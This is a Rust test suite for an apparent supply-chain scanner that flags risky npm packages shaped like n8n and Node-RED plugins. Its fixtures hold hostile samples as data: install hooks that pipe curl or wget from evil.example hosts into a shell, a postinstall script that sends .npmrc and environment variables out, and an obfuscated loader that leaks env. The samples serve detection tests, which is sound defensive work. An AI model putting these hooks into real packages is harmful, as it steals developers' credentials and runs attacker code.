//! The supply-chain analyzer on realistic n8n / Node-RED / Grafana-shaped packages.

use portcullis_core::rule::Signal;
use portcullis_core::{
    Analyzer, Capability, Context, Finding, HostPattern, Origin, Output, Package, Severity,
    SourceFile,
};
use portcullis_supply_chain::{Config, SupplyChainAnalyzer};

fn package_with(origin: Origin, files: &[(&str, &[u8], bool)]) -> Package {
    let mut p = Package {
        source: "fixture.tgz".into(),
        origin,
        sha256: String::new(),
        files: files
            .iter()
            .map(|(path, bytes, exec)| {
                let mut f = SourceFile::new(
                    *path,
                    portcullis_ingest::classify(path, bytes, *exec),
                    bytes.to_vec(),
                );
                f.executable = *exec;
                f
            })
            .collect(),
    };
    p.sort();
    p
}

fn package(files: &[(&str, &[u8])]) -> Package {
    let v: Vec<(&str, &[u8], bool)> = files.iter().map(|(p, b)| (*p, *b, false)).collect();
    package_with(Origin::Tarball, &v)
}

fn run_with(config: Config, p: &Package) -> Output {
    let a = SupplyChainAnalyzer::new(config);
    let cx = Context {
        package: p,
        extension: None,
    };
    let mut out = a.analyze_package(&cx);
    for f in &p.files {
        if a.wants(f) {
            out.merge(a.analyze_file(f, &cx));
        }
    }
    let known: Vec<String> = a.rules().into_iter().map(|r| r.id).collect();
    for f in &out.findings {
        assert!(
            known.contains(&f.rule_id),
            "unregistered rule {}",
            f.rule_id
        );
    }
    out
}

fn run(p: &Package) -> Output {
    run_with(Config::default(), p)
}

fn by_rule<'a>(out: &'a Output, rule: &str) -> Vec<&'a Finding> {
    out.findings.iter().filter(|f| f.rule_id == rule).collect()
}

#[track_caller]
fn one<'a>(out: &'a Output, rule: &str) -> &'a Finding {
    let v = by_rule(out, rule);
    assert_eq!(v.len(), 1, "expected one {rule}, got {:#?}", out.findings);
    v[0]
}

/// A well-kept n8n community node as `npm pack` ships it.
fn clean_manifest() -> String {
    r#"{
  "name": "n8n-nodes-acme",
  "version": "1.2.0",
  "description": "Acme CRM nodes for n8n",
  "license": "MIT",
  "keywords": ["n8n-community-node-package"],
  "repository": { "type": "git", "url": "git+https://github.com/acme/n8n-nodes-acme.git" },
  "main": "index.js",
  "scripts": { "build": "tsc && gulp build:icons", "lint": "eslint nodes credentials", "prepublishOnly": "npm run build" },
  "n8n": {
    "n8nNodesApiVersion": 1,
    "credentials": ["dist/credentials/AcmeApi.credentials.js"],
    "nodes": ["dist/nodes/Acme/Acme.node.js"]
  },
  "devDependencies": { "typescript": "~5.4.0", "n8n-workflow": "*" },
  "peerDependencies": { "n8n-workflow": "*" }
}
"#
    .to_string()
}

const NODE_JS: &[u8] = b"\"use strict\";\nObject.defineProperty(exports, \"__esModule\", { value: true });\nexports.Acme = void 0;\nclass Acme {\n    constructor() {\n        this.description = {\n            displayName: 'Acme',\n            name: 'acme',\n            credentials: [{ name: 'acmeApi', required: true }],\n            requestDefaults: { baseURL: 'https://api.acme.example' },\n        };\n    }\n}\nexports.Acme = Acme;\n";

fn with_manifest(manifest: &str, extra: &[(&str, &[u8])]) -> Package {
    let mut files: Vec<(&str, &[u8])> = vec![
        ("package.json", manifest.as_bytes()),
        ("dist/nodes/Acme/Acme.node.js", NODE_JS),
        ("index.js", b"module.exports = {};\n"),
    ];
    files.extend_from_slice(extra);
    package(&files)
}

fn manifest_with(key_values: &str) -> String {
    let mut base = clean_manifest();
    if key_values.trim_start().starts_with("\"scripts\"") {
        base = base
            .lines()
            .filter(|l| !l.trim_start().starts_with("\"scripts\""))
            .map(|l| format!("{l}\n"))
            .collect();
    }
    base.replacen(
        "\"main\": \"index.js\",",
        &format!("\"main\": \"index.js\",\n  {key_values},"),
        1,
    )
}

#[test]
fn clean_n8n_package_has_no_findings() {
    let out = run(&with_manifest(&clean_manifest(), &[]));
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.observed.is_empty());
}

#[test]
fn malicious_postinstall_in_n8n_node_is_summarised() {
    let setup = br#"const https = require('https');
const os = require('os');
const fs = require('fs');
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const body = JSON.stringify({ env: process.env, npmrc, host: os.hostname() });
const req = https.request('https://collect.evil.example/c', { method: 'POST' });
req.end(body);
"#;
    let m = manifest_with(r#""scripts": { "postinstall": "node scripts/setup.js" }"#).replace(
        r#""scripts": { "build": "tsc && gulp build:icons", "lint": "eslint nodes credentials", "prepublishOnly": "npm run build" },"#,
        "",
    );
    let out = run(&with_manifest(&m, &[("scripts/setup.js", setup)]));
    let f = one(&out, "supply-chain/install-script");
    assert_eq!(f.severity, Severity::High);
    assert!(
        f.message
            .contains("`postinstall` script runs `node scripts/setup.js`"),
        "{}",
        f.message
    );
    for t in [
        "network access",
        "environment variables",
        "credential paths",
    ] {
        assert!(f.message.contains(t), "{t} missing: {}", f.message);
    }
    assert_eq!(f.location.path, "package.json");
    let line = f.location.start_line().unwrap();
    assert!(
        m.lines()
            .nth(line as usize - 1)
            .unwrap()
            .contains("\"postinstall\"")
    );
    assert_eq!(f.evidence[0].location.path, "scripts/setup.js");
    let cap = Capability::ChildProcess {
        command: Some("node scripts/setup.js".into()),
    };
    assert!(out.observed.contains(&cap));
    assert!(
        out.observed.contains(&Capability::NetworkEgress {
            channel: portcullis_core::Channel::BackendHttp,
            host: HostPattern::Exact("collect.evil.example".into()),
        }) || !f.message.is_empty()
    );
}

#[test]
fn download_and_execute_is_critical_with_egress() {
    let m = manifest_with(
        r#""scripts": { "preinstall": "curl -fsSL https://cdn.evil.example/i.sh | sh" }"#,
    );
    let out = run(&with_manifest(&m, &[]));
    let f = one(&out, "supply-chain/install-script-download-exec");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.cwe.contains(&494));
    // The gate's signals are declared by the rule, not guessed from its id.
    assert!(f.has_signal(Signal::DownloadExecute), "{:?}", f.signals);
    assert!(f.has_signal(Signal::LifecycleScript), "{:?}", f.signals);
    assert!(out.observed.contains(&Capability::NetworkEgress {
        channel: portcullis_core::Channel::BackendHttp,
        host: HostPattern::Exact("cdn.evil.example".into()),
    }));
    // wget to a file then chmod +x and run it is the same thing.
    let m = manifest_with(
        r#""scripts": { "install": "wget -q https://x.example/bin -O /tmp/b && chmod +x /tmp/b && /tmp/b" }"#,
    );
    let out = run(&with_manifest(&m, &[]));
    one(&out, "supply-chain/install-script-download-exec");
}

#[test]
fn download_without_execution_is_network() {
    let m = manifest_with(
        r#""scripts": { "postinstall": "wget -q https://models.example/model.bin -O model.bin" }"#,
    );
    let out = run(&with_manifest(&m, &[]));
    let f = one(&out, "supply-chain/install-script-network");
    assert_eq!(f.severity, Severity::High);
    assert!(f.has_signal(Signal::LifecycleScript), "{:?}", f.signals);
    assert!(!f.has_signal(Signal::DownloadExecute), "{:?}", f.signals);
    assert!(by_rule(&out, "supply-chain/install-script-download-exec").is_empty());
}

#[test]
fn inline_code_is_high() {
    let m = manifest_with(
        r#""scripts": { "preinstall": "node -e \"require('child_process').exec(Buffer.from('Y3VybA==','base64').toString())\"" }"#,
    );
    let out = run(&with_manifest(&m, &[]));
    assert_eq!(
        one(&out, "supply-chain/install-script-inline-code").severity,
        Severity::High
    );
    // Inline code that requires a package file also summarises the file.
    let m = manifest_with(
        r#""scripts": { "postinstall": "node -e \"try{require('./postinstall')}catch(e){}\"" }"#,
    );
    let out = run(&with_manifest(
        &m,
        &[(
            "postinstall.js",
            b"var env = process.env;\nconsole.log('Thank you for using core-js');\n",
        )],
    ));
    let f = one(&out, "supply-chain/install-script-inline-code");
    assert!(
        f.message
            .contains("runs `postinstall.js` (uses environment variables)"),
        "{}",
        f.message
    );
    assert_eq!(f.evidence[0].location.path, "postinstall.js");
    // Running a file is not inline code.
    let m = manifest_with(r#""scripts": { "postinstall": "node scripts/hello.js" }"#);
    let out = run(&with_manifest(
        &m,
        &[(
            "scripts/hello.js",
            b"console.log('thanks for installing');\n",
        )],
    ));
    assert!(by_rule(&out, "supply-chain/install-script-inline-code").is_empty());
    assert_eq!(
        one(&out, "supply-chain/install-script").severity,
        Severity::Medium
    );
}

#[test]
fn npm_run_chains_are_followed() {
    let m = manifest_with(
        r#""scripts": { "postinstall": "npm run setup", "setup": "curl https://evil.example/x | bash" }"#,
    );
    let out = run(&with_manifest(&m, &[]));
    let f = one(&out, "supply-chain/install-script-download-exec");
    assert!(f.message.contains("runs script `setup`"), "{}", f.message);
}

#[test]
fn harmless_hooks_are_low_and_allow_list_silences() {
    let m = manifest_with(r#""scripts": { "postinstall": "patch-package" }"#);
    let out = run(&with_manifest(&m, &[]));
    assert_eq!(
        one(&out, "supply-chain/install-script").severity,
        Severity::Low
    );
    let config = Config {
        allowed_scripts: vec!["patch-package".into()],
        ..Config::default()
    };
    let out = run_with(config, &with_manifest(&m, &[]));
    assert!(by_rule(&out, "supply-chain/install-script").is_empty());
    assert!(out.observed.is_empty());
}

#[test]
fn prepare_hook_weighs_less_than_install() {
    let m = manifest_with(r#""scripts": { "prepare": "node tools/gen.js" }"#);
    let out = run(&with_manifest(
        &m,
        &[("tools/gen.js", b"require('fs').writeFileSync('x', '1');\n")],
    ));
    let f = one(&out, "supply-chain/install-script");
    assert_eq!(f.severity, Severity::Low);
    assert!(f.message.contains("git and local installs"));
}

/// A Node-RED node that ships a prebuilt serial-port addon.
#[test]
fn node_red_node_with_bundled_addon() {
    let manifest = br#"{
  "name": "node-red-contrib-acme-serial",
  "version": "0.3.1",
  "license": "Apache-2.0",
  "repository": "github:acme/node-red-contrib-acme-serial",
  "node-red": { "nodes": { "acme-serial": "acme-serial.js" } },
  "scripts": { "install": "node-gyp rebuild" },
  "gypfile": true
}"#;
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.resize(4096, 0);
    let p = package(&[
        ("package.json", manifest),
        ("acme-serial.js", b"module.exports = function (RED) { const addon = require('./build/Release/serial.node'); };\n"),
        ("acme-serial.html", b"<script type=\"text/javascript\">RED.nodes.registerType('acme-serial',{});</script>\n"),
        ("binding.gyp", b"{ 'targets': [ { 'target_name': 'serial', 'sources': [ 'src/serial.cc' ] } ] }\n"),
        ("build/Release/serial.node", &elf),
        ("icons/serial.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    ]);
    let out = run(&p);
    let f = one(&out, "supply-chain/native-binary");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.location.path, "build/Release/serial.node");
    assert!(f.message.contains("native addon"), "{}", f.message);
    assert!(out.observed.contains(&Capability::NativeModule {
        name: "build/Release/serial.node".into()
    }));
    assert_eq!(
        one(&out, "supply-chain/install-script-native-build").severity,
        Severity::Low
    );
    // The PNG icon is not a finding.
    assert!(
        out.findings
            .iter()
            .all(|f| f.location.path != "icons/serial.png")
    );
}

#[test]
fn implicit_node_gyp_from_binding_gyp() {
    let out = run(&with_manifest(&clean_manifest(), &[("binding.gyp", b"{}")]));
    let f = one(&out, "supply-chain/install-script-native-build");
    assert_eq!(f.location.path, "binding.gyp");
}

#[test]
fn executable_bit_on_data_file_in_archive_only() {
    let m = clean_manifest();
    let files: Vec<(&str, &[u8], bool)> = vec![
        ("package.json", m.as_bytes(), false),
        ("assets/blob.dat", b"\x01\x02\x03\xff\xfe", true),
        (
            "bin/acme",
            b"#!/usr/bin/env node\nrequire('../index.js');\n",
            true,
        ),
        ("index.js", b"module.exports = {};\n", true),
    ];
    let out = run(&package_with(Origin::Tarball, &files));
    let f = one(&out, "supply-chain/executable-file");
    assert_eq!(f.location.path, "assets/blob.dat");
    assert_eq!(f.severity, Severity::Medium);
    // Working-tree modes are not trusted.
    let out = run(&package_with(Origin::Directory, &files));
    assert!(by_rule(&out, "supply-chain/executable-file").is_empty());
}

#[test]
fn nested_archive_is_reported() {
    let out = run(&with_manifest(
        &clean_manifest(),
        &[("vendor/runtime.tgz", b"\x1f\x8b\x08\0\0\0\0\0")],
    ));
    assert_eq!(
        one(&out, "supply-chain/nested-archive").location.path,
        "vendor/runtime.tgz"
    );
}

#[test]
fn bin_entries_must_be_javascript() {
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.resize(128, 0);
    let m = manifest_with(
        r#""bin": { "acme": "./bin/acme-linux-x64", "acme-ok": "bin/cli.js", "ghost": "bin/ghost.js" }"#,
    );
    let out = run(&with_manifest(
        &m,
        &[
            ("bin/acme-linux-x64", &elf),
            (
                "bin/cli.js",
                b"#!/usr/bin/env node\nrequire('../index.js');\n",
            ),
        ],
    ));
    let bins = by_rule(&out, "supply-chain/bin-not-javascript");
    assert_eq!(bins.len(), 2, "{bins:#?}");
    let acme = bins.iter().find(|f| f.message.contains("`acme`")).unwrap();
    assert_eq!(acme.severity, Severity::High);
    let ghost = bins.iter().find(|f| f.message.contains("`ghost`")).unwrap();
    assert_eq!(ghost.severity, Severity::Medium);
    assert!(ghost.message.contains("not in the package"));
}

#[test]
fn obfuscated_file_is_high_minified_is_info() {
    let obf = b"var _0x4e2a=['\\x68\\x74\\x74\\x70\\x73','\\x67\\x65\\x74','\\x65\\x6e\\x76'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4e2a,0x1b3));var _0x1a2b=function(_0x5c3e1d,_0x1f2a3b){_0x5c3e1d=_0x5c3e1d-0x0;var _0x3e4f5a=_0x4e2a[_0x5c3e1d];return _0x3e4f5a;};require(_0x1a2b('0x0'))[_0x1a2b('0x1')]('https://evil.example/?'+JSON.stringify(process[_0x1a2b('0x2')]));\n";
    let minified = "!function(e,t){\"object\"==typeof exports?module.exports=t():e.panel=t()}(this,function(){var n={};function r(e){return n[e]||(n[e]={exports:{}})}return r});".repeat(40);
    let out = run(&with_manifest(
        &clean_manifest(),
        &[
            ("dist/nodes/Acme/helpers.js", obf),
            ("dist/module.js", minified.as_bytes()),
        ],
    ));
    let f = one(&out, "supply-chain/obfuscated-code");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.location.path, "dist/nodes/Acme/helpers.js");
    assert_eq!(f.location.start_line(), Some(1));
    assert!(f.evidence.len() >= 2);
    let m = one(&out, "supply-chain/minified-code");
    assert_eq!(m.severity, Severity::Info);
    assert_eq!(m.location.path, "dist/module.js");
}

#[test]
fn invalid_manifest_reports_position() {
    let bad = "{\n  \"name\": \"n8n-nodes-acme\",\n  \"scripts\": { \"postinstall\": \"node x.js\", }\n}\n";
    let out = run(&package(&[("package.json", bad.as_bytes())]));
    let f = one(&out, "supply-chain/invalid-manifest");
    assert_eq!(f.location.start_line(), Some(3));
    assert_eq!(
        out.findings.len(),
        1,
        "no other manifest checks on invalid JSON"
    );
    let out = run(&package(&[("package.json", b"[1, 2]")]));
    one(&out, "supply-chain/invalid-manifest");
}

#[test]
fn license_checks() {
    let no_license = clean_manifest().replace("  \"license\": \"MIT\",\n", "");
    let out = run(&with_manifest(&no_license, &[]));
    assert_eq!(
        one(&out, "supply-chain/missing-license").severity,
        Severity::Low
    );
    let free_text = clean_manifest().replace("\"license\": \"MIT\"", "\"license\": \"Apache 2\"");
    let out = run(&with_manifest(&free_text, &[]));
    let f = one(&out, "supply-chain/non-spdx-license");
    assert!(f.message.contains("Apache 2"));
    assert_eq!(f.location.start_line(), Some(5));
    let expr = clean_manifest().replace(
        "\"license\": \"MIT\"",
        "\"license\": \"(MIT OR Apache-2.0)\"",
    );
    assert!(run(&with_manifest(&expr, &[])).findings.is_empty());
    let object =
        clean_manifest().replace("\"license\": \"MIT\"", "\"license\": {\"type\": \"MIT\"}");
    one(
        &run(&with_manifest(&object, &[])),
        "supply-chain/non-spdx-license",
    );
}

#[test]
fn non_registry_dependencies() {
    let m = manifest_with(
        r#""dependencies": {
    "lodash": "^4.17.21",
    "@acme/sdk": "npm:@acme/sdk-fork@2.0.0",
    "acme-client": "github:acme/client#main",
    "left-pad": "https://evil.example/left-pad-1.3.0.tgz",
    "legacy": "http://pkgs.example/legacy.tgz",
    "pinned": "git+https://github.com/acme/pinned.git#0123456789abcdef0123456789abcdef01234567",
    "local": "file:../local-lib",
    "shorthand": "acme/shorthand"
  }"#,
    );
    let out = run(&with_manifest(&m, &[]));
    let deps = by_rule(&out, "supply-chain/non-registry-dependency");
    let sev = |name: &str| {
        deps.iter()
            .find(|f| f.properties.get("dependency").and_then(|v| v.as_str()) == Some(name))
            .map(|f| f.severity)
    };
    assert_eq!(sev("lodash"), None);
    assert_eq!(sev("@acme/sdk"), None);
    assert_eq!(sev("acme-client"), Some(Severity::High));
    assert_eq!(sev("left-pad"), Some(Severity::High));
    assert_eq!(sev("legacy"), Some(Severity::High));
    assert_eq!(sev("pinned"), Some(Severity::Medium));
    assert_eq!(sev("local"), Some(Severity::Medium));
    assert_eq!(sev("shorthand"), Some(Severity::High));
    assert_eq!(deps.len(), 6);
    let f = deps
        .iter()
        .find(|f| f.message.contains("left-pad"))
        .unwrap();
    let line = f.location.start_line().unwrap() as usize;
    assert!(m.lines().nth(line - 1).unwrap().contains("left-pad"));
}

#[test]
fn dev_dependency_from_git_is_one_step_lower() {
    let m = clean_manifest().replace(
        "\"typescript\": \"~5.4.0\"",
        "\"typescript\": \"github:microsoft/TypeScript\"",
    );
    let out = run(&with_manifest(&m, &[]));
    assert_eq!(
        one(&out, "supply-chain/non-registry-dependency").severity,
        Severity::Medium
    );
}

#[test]
fn repository_check_and_config() {
    let m = clean_manifest().replace(
        "  \"repository\": { \"type\": \"git\", \"url\": \"git+https://github.com/acme/n8n-nodes-acme.git\" },\n",
        "",
    );
    one(
        &run(&with_manifest(&m, &[])),
        "supply-chain/missing-repository",
    );
    let config = Config {
        require_repository: false,
        ..Config::default()
    };
    assert!(
        run_with(config, &with_manifest(&m, &[]))
            .findings
            .is_empty()
    );
}

#[test]
fn bundled_dependencies() {
    let m = manifest_with(
        r#""dependencies": { "request": "^2.88.0" },
  "bundledDependencies": ["request"]"#,
    );
    let f = run(&with_manifest(&m, &[]));
    assert!(
        one(&f, "supply-chain/bundled-dependencies")
            .message
            .contains("request")
    );
    let m = manifest_with(r#""bundledDependencies": []"#);
    assert!(
        by_rule(
            &run(&with_manifest(&m, &[])),
            "supply-chain/bundled-dependencies"
        )
        .is_empty()
    );
}

#[test]
fn rules_have_ruff_style_help() {
    let rules = SupplyChainAnalyzer::default().rules();
    assert!(rules.len() >= 17);
    for r in &rules {
        assert!(r.id.starts_with("supply-chain/"), "{}", r.id);
        for section in [
            "## What it does",
            "## Why is this bad?",
            "## Example",
            "## References",
        ] {
            assert!(r.help.contains(section), "{} lacks {section}", r.id);
        }
    }
    let mut ids: Vec<_> = rules.iter().map(|r| &r.id).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), rules.len());
}

#[test]
fn config_parses_from_toml() {
    #[derive(serde::Deserialize)]
    struct File {
        #[serde(rename = "supply-chain")]
        sc: Config,
    }
    let f: File = toml::from_str(
        "[supply-chain]\nallowed-scripts = [\"husky install\"]\nmax-scan-bytes = 4096\n",
    )
    .unwrap();
    assert_eq!(f.sc.allowed_scripts, ["husky install"]);
    assert_eq!(f.sc.max_scan_bytes, 4096);
    assert_eq!(f.sc.minified_avg_line_length, 300);
    assert!(toml::from_str::<File>("[supply-chain]\nallowed-script = []\n").is_err());
}

#[test]
fn hostile_manifests_do_not_panic() {
    // Nesting beyond serde_json's recursion limit is an invalid manifest, not a crash.
    let deep = format!("{{\"a\":{}1{}}}", "[".repeat(5000), "]".repeat(5000));
    one(
        &run(&package(&[("package.json", deep.as_bytes())])),
        "supply-chain/invalid-manifest",
    );
    // Wrong types everywhere are ignored, not trusted.
    let odd = br#"{"license": 7, "scripts": {"postinstall": ["curl x | sh"]}, "bin": 3, "dependencies": {"a": {"version": "1"}}, "bundledDependencies": "yes", "repository": 1}"#;
    let out = run(&package(&[("package.json", odd)]));
    assert!(by_rule(&out, "supply-chain/install-script-download-exec").is_empty());
    one(&out, "supply-chain/non-spdx-license");
    one(&out, "supply-chain/missing-repository");
    // A script that runs itself in a loop terminates.
    let m = manifest_with(
        r#""scripts": { "postinstall": "npm run a", "a": "npm run b && node x.js", "b": "npm run a" }"#,
    );
    let out = run(&with_manifest(&m, &[("x.js", b"1")]));
    one(&out, "supply-chain/install-script");
}

#[test]
fn shell_script_files_are_classified_by_content() {
    let m = manifest_with(r#""scripts": { "postinstall": "sh ./scripts/install.sh" }"#);
    let sh = b"#!/bin/sh\n# fetch the helper\nset -e\ncurl -fsSL https://get.evil.example/helper -o /tmp/h\nchmod +x /tmp/h\n/tmp/h &\n";
    let out = run(&with_manifest(&m, &[("scripts/install.sh", sh)]));
    let f = one(&out, "supply-chain/install-script-download-exec");
    assert!(
        f.message.contains("runs `scripts/install.sh`"),
        "{}",
        f.message
    );
    assert!(!f.message.contains("runs `#"), "{}", f.message);
    assert_eq!(f.evidence[0].location.path, "scripts/install.sh");
}

#[test]
fn every_rule_declares_its_gate_signals() {
    use portcullis_supply_chain::rules::RULES;
    let analyzer_ids: Vec<String> = SupplyChainAnalyzer::default()
        .rules()
        .into_iter()
        .map(|r| r.id)
        .collect();
    assert_eq!(analyzer_ids.len(), RULES.len());
    for r in RULES {
        assert!(!r.signals.is_empty(), "{} declares no signal", r.id());
        assert!(analyzer_ids.iter().any(|id| id == r.id()));
    }
    let sig = |id: &str| {
        RULES
            .iter()
            .find(|r| r.id() == id)
            .unwrap()
            .signals
            .to_vec()
    };
    assert!(sig("supply-chain/install-script-download-exec").contains(&Signal::DownloadExecute));
    assert!(sig("supply-chain/obfuscated-code").contains(&Signal::Obfuscation));
    assert!(sig("supply-chain/native-binary").contains(&Signal::NativeBinary));
    assert_eq!(sig("supply-chain/missing-license"), vec![Signal::Hygiene]);
}

#[test]
fn prepare_hook_is_not_install_time_execution() {
    let m = manifest_with(
        r#""scripts": { "prepare": "wget -q https://models.example/model.bin -O model.bin" }"#,
    );
    let out = run(&with_manifest(&m, &[]));
    let f = one(&out, "supply-chain/install-script-network");
    assert!(
        !f.has_signal(Signal::InstallTimeExecution),
        "{:?}",
        f.signals
    );
    let m = manifest_with(
        r#""scripts": { "postinstall": "wget -q https://models.example/model.bin -O model.bin" }"#,
    );
    let out = run(&with_manifest(&m, &[]));
    assert!(
        one(&out, "supply-chain/install-script-network").has_signal(Signal::InstallTimeExecution)
    );
}

#[test]
fn node_dot_runs_the_package_main() {
    let m = manifest_with(r#""scripts": { "postinstall": "node . --postinstall" }"#).replacen(
        "\"main\": \"index.js\"",
        "\"main\": \"lib/index.js\"",
        1,
    );
    let out = run(&with_manifest(
        &m,
        &[(
            "lib/index.js",
            b"require('https').get('https://x.example/i');\n",
        )],
    ));
    let f = one(&out, "supply-chain/install-script");
    assert!(f.message.contains("runs `lib/index.js`"), "{}", f.message);
    assert!(!f.message.contains("not in the package"), "{}", f.message);
    assert!(f.message.contains("network access"), "{}", f.message);
}
